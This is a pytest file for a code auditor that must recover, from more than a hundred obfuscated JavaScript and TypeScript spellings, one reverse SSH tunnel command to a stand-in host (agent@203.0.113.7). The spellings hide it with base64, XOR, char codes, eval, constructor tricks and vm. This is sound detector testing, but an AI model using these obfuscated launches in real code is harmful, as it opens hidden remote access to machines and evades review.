"""The same command in many spellings of JavaScript: each must be read as exactly that command."""

# ruff: noqa: E501  (code under test is read more easily whole)

from __future__ import annotations

import base64

import pytest

from auditor.model.unit import Language
from tests.read.javascript.readings import TUNNEL, effects_of, lines_of, read

HOST = "agent@203.0.113.7"
RUN = 'require("child_process").execSync'
BASE64 = base64.b64encode(TUNNEL.encode()).decode()
HEX = TUNNEL.encode().hex()
CODES = ", ".join(str(ord(c)) for c in TUNNEL)
XORED = ", ".join(str(ord(c) ^ 42) for c in TUNNEL)
REVERSED = TUNNEL[::-1]
HALF = len(TUNNEL) // 2

SPELLINGS = {
    "plain": f'{RUN}("{TUNNEL}")',
    "node prefix": f'require("node:child_process").exec("{TUNNEL}")',
    "import default": f'import cp from "child_process"; cp.execSync("{TUNNEL}")',
    "import named": f'import {{ execSync as run }} from "node:child_process"; run("{TUNNEL}")',
    "import all": f'import * as cp from "child_process"; cp.execSync("{TUNNEL}")',
    "dynamic import": f'(async () => {{ const {{ exec }} = await import("child_process"); exec("{TUNNEL}") }})()',
    "import then": f'import("child_process").then(m => m.exec("{TUNNEL}"))',
    "create require": f'import {{ createRequire }} from "module"; createRequire(import.meta.url)("child_process").execSync("{TUNNEL}")',
    "destructured": f'const {{ execSync: r }} = require("child_process"); r("{TUNNEL}")',
    "spawn": f'require("child_process").spawn("ssh", ["-N", "-R", "2222:localhost:22", "{HOST}"])',
    "spawn with spread": f'const a = ["-N", "-R"]; require("child_process").spawn("ssh", [...a, "2222:localhost:22", "{HOST}"])',
    "spawn through a shell": f'require("child_process").spawn("ssh -N", ["-R", "2222:localhost:22", "{HOST}"], {{shell: true}})',
    "exec file": f'require("child_process").execFile("/usr/bin/ssh", ["-N", "-R", "2222:localhost:22", "{HOST}"], () => {{}})',
    "bash -c": f'require("child_process").spawnSync("bash", ["-c", "{TUNNEL}"])',
    "concatenated": f'{RUN}("s" + "sh -N -R " + 2222 + ":localhost:22 {HOST}")',
    "plus assignment": f'let c = "ss"; c += "h -N -R "; c += `2222:localhost:22 {HOST}`; {RUN}(c)',
    "template": f'const p = 2222, h = {{ip: "203.0.113.7"}}; {RUN}(`ssh -N -R ${{p}}:localhost:22 agent@${{h.ip}}`)',
    "concat": f'{RUN}("ssh".concat(" -N", " -R ", "2222:localhost:22 {HOST}"))',
    "join": f'{RUN}(["ssh", "-N", "-R", "2222:localhost:22", "{HOST}"].join(" "))',
    "reversed": f'{RUN}("{REVERSED}".split("").reverse().join(""))',
    "reversed with spread": f'{RUN}([..."{REVERSED}"].reverse().join(""))',
    "replaced": f'{RUN}("{TUNNEL.replace("s", "#")}".replace(/#/g, "s"))',
    "replaced all": f'{RUN}("{TUNNEL.replace("s", "#")}".replaceAll("#", "s"))',
    "replaced by function": f'{RUN}("{TUNNEL.swapcase()}".replace(/[a-zA-Z]/g, c => c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase()))',
    "case": f'{RUN}("{TUNNEL.lower()}".split("-r").join("-" + "r".toUpperCase()).split("-n").join("-N"))',
    "slices": f'const t = "xx{TUNNEL}yy"; {RUN}(t.slice(2, -2))',
    "substrings": f'const t = "{TUNNEL}"; {RUN}(t.substring(0, {HALF}) + t.substr({HALF}))',
    "pad": f'{RUN}("{TUNNEL[3:]}".padStart({len(TUNNEL)}, "ssh"))',
    "repeat": f'{RUN}("s".repeat(2) + "{TUNNEL[2:]}")',
    "at": f'const k = "hs"; {RUN}(k.at(-1) + k[1] + k.charAt(0) + "{TUNNEL[3:]}")',
    "base64": f'{RUN}(Buffer.from("{BASE64}", "base64").toString())',
    "base64 in utf8": f'{RUN}(new Buffer("{BASE64}", "base64").toString("utf8"))',
    "atob": f'{RUN}(atob("{BASE64}"))',
    "hex": f'{RUN}(Buffer.from("{HEX}", "hex").toString("ascii"))',
    "twice base64": f'const d = s => Buffer.from(s, "base64").toString(); {RUN}(d(d("{base64.b64encode(BASE64.encode()).decode()}")))',
    "bytes": f"{RUN}(Buffer.from([{CODES}]).toString())",
    "typed bytes": f"{RUN}(new TextDecoder().decode(new Uint8Array([{CODES}])))",
    "char codes": f"{RUN}(String.fromCharCode({CODES}))",
    "char codes spread": f"const k = [{CODES}]; {RUN}(String.fromCodePoint(...k))",
    "char codes applied": f"{RUN}(String.fromCharCode.apply(null, [{CODES}]))",
    "char codes mapped": f'{RUN}([{CODES}].map(n => String.fromCharCode(n)).join(""))',
    "char codes in a loop": f'let s = ""; for (const n of [{CODES}]) s += String.fromCharCode(n); {RUN}(s)',
    "xor": f'{RUN}([{XORED}].map(n => String.fromCharCode(n ^ 42)).join(""))',
    "counted loop": f'const t = "{REVERSED}"; let s = ""; for (let i = t.length - 1; i >= 0; i--) {{ s += t[i] }} {RUN}(s)',
    "while": f'const w = ["ssh", "-N", "-R", "2222:localhost:22", "{HOST}"]; let s = ""; while (w.length) s += w.shift() + " "; {RUN}(s.trim())',
    "reduce": f'{RUN}(["ssh -N", "-R 2222:localhost:22", "{HOST}"].reduce((a, b) => a + " " + b))',
    "sort": f'{RUN}([[2, "{HOST}"], [0, "ssh -N"], [1, "-R 2222:localhost:22"]].sort((a, b) => a[0] - b[0]).map(x => x[1]).join(" "))',
    "unescape": f'{RUN}(unescape("{"".join(f"%{ord(c):02x}" for c in TUNNEL)}"))',
    "url": f'{RUN}(decodeURIComponent("{TUNNEL.replace(" ", "%20")}"))',
    "JSON": f'{RUN}(JSON.parse(\'{{"c": "{TUNNEL}"}}\').c)',
    "escapes": f'{RUN}("\\x73\\u0073\\u{{68}}{TUNNEL[3:]}")',
    "octal": f'{RUN}("\\163\\163h{TUNNEL[3:]}")',
    "name in escapes": f'require("child_process").\\u0065xecSync("{TUNNEL}")',
    "computed member": f'require("child_process")["ex" + "ecSync"]("{TUNNEL}")',
    "computed module": f'require(["child", "process"].join("_")).execSync("{TUNNEL}")',
    "name by loop": f'const cp = require("child_process"); for (const k of ["execSync"]) cp[k]("{TUNNEL}")',
    "main module": f'process.mainModule.require("child_process").execSync("{TUNNEL}")',
    "global": f'globalThis["pro" + "cess"].mainModule.require("child_process").execSync("{TUNNEL}")',
    "module": f'module.constructor._load("child_process").execSync("{TUNNEL}")',
    "builtin": f'process.getBuiltinModule("child_process").execSync("{TUNNEL}")',
    "binding": f'process.binding("spawn_sync").spawn({{file: "ssh", args: ["ssh", "-N", "-R", "2222:localhost:22", "{HOST}"]}})',
    "this": f'this.constructor.constructor("return process")().mainModule.require("child_process").execSync("{TUNNEL}")',
    "eval": f"eval(\"require('child_process').execSync('{TUNNEL}')\")",
    "eval of hidden": f'eval(atob("{base64.b64encode(f"{RUN}({TUNNEL!r})".encode()).decode()}"))',
    "indirect eval": f"(0, eval)(\"require('child_process').execSync('{TUNNEL}')\")",
    "eval by name": f"globalThis['ev' + 'al'](\"require('child_process').execSync('{TUNNEL}')\")",
    "eval shares names": f"const c = '{TUNNEL}'; eval(\"require('child_process').execSync(c)\")",
    "Function": f"Function('r', \"r('child_process').execSync('{TUNNEL}')\")(require)",
    "constructor": f"(() => {{}}).constructor(\"require('child_process').execSync('{TUNNEL}')\")()",
    "text's constructor": f"''.sub.constructor(\"require('child_process').execSync('{TUNNEL}')\")()",
    "vm": f"require('vm').runInNewContext(\"r('child_process').execSync('{TUNNEL}')\", {{r: require}})",
    "vm script": f"new (require('vm').Script)(\"require('child_process').execSync('{TUNNEL}')\").runInThisContext()",
    "timer": f'setTimeout(() => {RUN}("{TUNNEL}"), 5)',
    "timer with text": f"setTimeout(\"require('child_process').execSync('{TUNNEL}')\", 5)",
    "function": f'function go(p, ...rest) {{ {RUN}(["ssh", p, ...rest].join(" ")) }} go("-N", "-R", "2222:localhost:22", "{HOST}")',
    "default argument": f'const go = (c = "{TUNNEL}") => {RUN}(c); go()',
    "closure": f'const make = c => () => {RUN}(c); make("{TUNNEL}")()',
    "object's method": f'const o = {{c: "{TUNNEL}", go() {{ {RUN}(this.c) }}}}; o.go()',
    "getter": f'const o = {{get c() {{ return "{TUNNEL}" }}}}; {RUN}(o.c)',
    "class": f'class A {{ #c; constructor(c) {{ this.#c = c }} go() {{ {RUN}(this.#c) }} }} new A("{TUNNEL}").go()',
    "inherited": f'class A {{ go() {{ {RUN}(this.c()) }} }} class B extends A {{ c() {{ return "{TUNNEL}" }} }} new B().go()',
    "static": f'class A {{ static c = "{TUNNEL}" }} {RUN}(A.c)',
    "call": f'const f = require("child_process").execSync; f.call(null, "{TUNNEL}")',
    "bound": f'require("child_process").execSync.bind(null)("{TUNNEL}")',
    "Reflect": f'Reflect.apply(require("child_process").execSync, null, ["{TUNNEL}"])',
    "Reflect.get": f'Reflect.get(require("child_process"), "execSync")("{TUNNEL}")',
    "promisified": f'const run = require("util").promisify(require("child_process").exec); run("{TUNNEL}")',
    "promise": f'Promise.resolve("{TUNNEL}").then(c => {RUN}(c))',
    "new Promise": f'new Promise(r => r("{TUNNEL}")).then({RUN})',
    "async": f'async function go() {{ const c = await Promise.all(["{TUNNEL}"]); {RUN}(c[0]) }} go()',
    "uncalled": f'module.exports.go = function () {{ {RUN}("{TUNNEL}") }}',
    "event": f'process.on("exit", () => {RUN}("{TUNNEL}"))',
    "condition": f'let c = "id"; if (process.platform === "linux") c = "{TUNNEL}"; {RUN}(c)',
    "ternary": f'{RUN}(process.argv.length > 9 ? "id" : "{TUNNEL}")',
    "fallback": f'{RUN}(process.env.NOBODY || "{TUNNEL}")',
    "switch": f'switch (Math.random() > 2) {{ case true: break; default: {RUN}("{TUNNEL}") }}',
    "try": f'try {{ JSON.parse("x") }} catch {{ {RUN}("{TUNNEL}") }}',
    "map": f'const m = new Map([["k", "{TUNNEL}"]]); {RUN}(m.get("k"))',
    "entries": f'for (const [k, v] of Object.entries({{execSync: "{TUNNEL}"}})) require("child_process")[k](v)',
    "swap": f'let [a, b] = ["{TUNNEL}", "id"]; [a, b] = [b, a]; {RUN}(b)',
    "environment": f'require("child_process").execSync("ssh -N -R $P:localhost:22 {HOST}", {{env: {{...process.env, P: "2222"}}}})',
    "standard input": f'require("child_process").execSync("bash", {{input: "{TUNNEL}\\n"}})',
    "shell's standard input": f'const s = require("child_process").spawn("sh"); s.stdin.write("{TUNNEL}\\n")',
    "written, then run": f'require("fs").writeFileSync("/tmp/a.sh", "{TUNNEL}\\n"); {RUN}("bash /tmp/a.sh")',
    "streamed, then run": f'const w = require("fs").createWriteStream("/tmp/a.sh"); w.write("{TUNNEL}"); w.end(); {RUN}("sh /tmp/a.sh")',
    "copied": f'require("fs").copyFileSync("/usr/bin/ssh", "/tmp/x"); {RUN}("/tmp/x {TUNNEL[4:]}")',
    "output used": f'const o = {RUN}("echo ssh").toString().trim(); {RUN}(o + "{TUNNEL[3:]}")',
    "execa": f'import {{ execa }} from "execa"; await execa("ssh", ["-N", "-R", "2222:localhost:22", "{HOST}"])',
    "execa command": f'const {{ execaCommandSync: x }} = require("execa"); x("{TUNNEL}")',
    "zx": f'import {{ $ }} from "zx"; const h = "{HOST}"; await $`ssh -N -R 2222:localhost:22 ${{h}}`',
    "zx array": f'await $`ssh ${{["-N", "-R", "2222:localhost:22", "{HOST}"]}}`',
    "shelljs": f'require("shelljs").exec("{TUNNEL}", {{silent: true}})',
    "cross-spawn": f'require("cross-spawn")("ssh", ["-N", "-R", "2222:localhost:22", "{HOST}"])',
    "Deno": f'await new Deno.Command("ssh", {{args: ["-N", "-R", "2222:localhost:22", "{HOST}"]}}).output()',
    "Bun": f'Bun.spawn(["ssh", "-N", "-R", "2222:localhost:22", "{HOST}"])',
    "fork": f'require("fs").writeFileSync("w.js", \'{RUN}("{TUNNEL}")\'); require("child_process").fork("w.js")',
    "comma": f'(1, require("child_process").execSync)("{TUNNEL}")',
    "optional": f'require?.("child_process")?.execSync?.("{TUNNEL}")',
    "old style": f'var c = ["execSync", "{TUNNEL}", "child_process"]; (function (a, b) {{ a(b[2])[b[0]](b[1]) }})(require, c);',
}


@pytest.mark.parametrize("code", SPELLINGS.values(), ids=SPELLINGS.keys())
def test_the_command_is_recovered(code: str) -> None:
    """However it is spelled, the command comes out as one effect with exactly these words."""
    assert TUNNEL in effects_of(code)


TWINS = {
    name: code.replace("ssh", "git").replace(HOST, "origin.example")
    for name, code in SPELLINGS.items()
    if TUNNEL in code
}


@pytest.mark.parametrize("code", TWINS.values(), ids=TWINS.keys())
def test_harmless_twins_start_nothing_else(code: str) -> None:
    """The same code around another command never names the tunnel."""
    lines = effects_of(code)
    assert any(line.startswith("git -N") for line in lines)
    assert not any("ssh" in line for line in lines)


TYPED = {
    "types": f'import {{ execSync }} from "child_process";\nconst c: string = "{TUNNEL}";\nexecSync(c as string);',
    "interface": f'interface A {{ c: string }}\nconst a: A = {{ c: "{TUNNEL}" }};\nrequire("child_process").execSync(a.c!);',
    "enum and generic": f'function id<T>(x: T): T {{ return x }}\nrequire("child_process").execSync(id<string>("{TUNNEL}"));',
    "class": "import * as cp from 'node:child_process';\nexport class R { constructor(private readonly c: string) {}\n"
    f" go(): void {{ cp.execSync('{TUNNEL}') }} }}\n",
    "tsx": f'const A = () => <div onClick={{() => require("child_process").execSync("{TUNNEL}")}}>x</div>;',
}


@pytest.mark.parametrize("code", TYPED.values(), ids=TYPED.keys())
def test_typescript(code: str) -> None:
    """Types change nothing."""
    assert TUNNEL in effects_of(code, Language.TYPESCRIPT)


def test_hiding_is_recorded() -> None:
    """Decoders and names put together are effects of their own."""
    assert "hiding.decoded bash 1" in effects_of(SPELLINGS["base64"])
    assert "hiding.name child_process.execSync" in effects_of(SPELLINGS["computed member"])
    assert effects_of(SPELLINGS["plain"]) == [TUNNEL]


def test_places_and_columns() -> None:
    """An effect stands where the call stands, columns in code points."""
    reading = read('const cp = require("child_process");\n/* é𝒳 */ cp.spawn("id", ["-u"]);\n')
    place = reading.effects[0].place
    assert (place.span.line, place.span.column) == (2, 10)
    assert lines_of(reading) == ["id -u"]


def test_commands_of_both_branches() -> None:
    """What may be one of two commands is both."""
    lines = effects_of('const c = x ? "id -u" : "id -g"; require("child_process").execSync(c)')
    assert lines == ["id -u", "id -g"]


@pytest.mark.parametrize(
    "code",
    [
        'require("child_process").execSync("%s")',
        '(0, this.constructor.constructor("return process")()).mainModule.require("child_" + "process").exec("%s")',
        'const r = require; r("child_process").exec(`%s`)',
    ],
)
def test_from_bash(code: str) -> None:
    """`node -e` in a shell command is read by the same interpreter."""
    assert TUNNEL in lines_of(read(f"node -e '{code % TUNNEL}'", Language.BASH))


def test_what_a_one_liner_prints() -> None:
    """The output of a one-liner is known where all of it is."""
    assert TUNNEL in lines_of(read(f'$(node -e \'console.log("ss" + "h")\'){TUNNEL[3:]}', Language.BASH))
